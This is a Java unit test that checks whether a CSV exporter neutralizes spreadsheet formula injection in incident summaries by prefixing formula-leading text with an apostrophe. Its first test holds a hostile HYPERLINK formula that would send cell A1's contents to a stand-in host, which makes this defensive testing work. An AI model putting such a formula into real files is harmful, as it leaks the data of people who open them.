package dev.storyatlas.api;

import static org.assertj.core.api.Assertions.assertThat;

import dev.storyatlas.story.Story;
import dev.storyatlas.story.StoryLoader;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.core.io.FileSystemResource;

class IncidentCsvTest {

    private static final Path FIXTURES = Path.of("src/test/resources/fixtures");

    @Test
    void a_summary_that_a_spreadsheet_would_run_as_a_formula_reaches_it_as_text(@TempDir Path dir) throws Exception {
        Files.copy(FIXTURES.resolve("bridge.txt"), dir.resolve("bridge.txt"));
        String yaml = Files.readString(FIXTURES.resolve("bridge.yaml"));
        String formula = "=HYPERLINK(\"https://example.org/?leak=\"&A1,\"Brücke\")";
        Files.writeString(dir.resolve("bridge.yaml"), yaml.replace("summary: Eine Brücke wurde eröffnet.",
                "summary: '" + formula.replace("'", "''") + "'"));
        Story story = new StoryLoader().load(new FileSystemResource(dir.resolve("bridge.yaml")));
        assertThat(story.incidents().getFirst().summary()).isEqualTo(formula);

        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(IncidentCsv.of(story))).getRecords();

        assertThat(rows.getFirst().get("summary")).isEqualTo("'" + formula);
        assertThat(rows.getFirst().get("excerpt")).isEqualTo(story.incidents().getFirst().citation().excerpt());
        assertThat(rows.getFirst().get("wording")).isEqualTo("am Montag");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+49 30 1234", "-2 Grad", "@SUMME(A1)", "\t=1", "\r=1"})
    void text_beginning_with_a_formula_character_gets_an_apostrophe(String text) {
        assertThat(IncidentCsv.asText(text)).isEqualTo("'" + text);
    }

    @Test
    void other_text_and_absent_text_stay_as_they_are() {
        assertThat(IncidentCsv.asText("Laut Seoul = 1.500 Soldaten")).isEqualTo("Laut Seoul = 1.500 Soldaten");
        assertThat(IncidentCsv.asText("„Ein guter Tag“")).isEqualTo("„Ein guter Tag“");
        assertThat(IncidentCsv.asText("")).isEmpty();
        assertThat(IncidentCsv.asText(null)).isNull();
    }
}
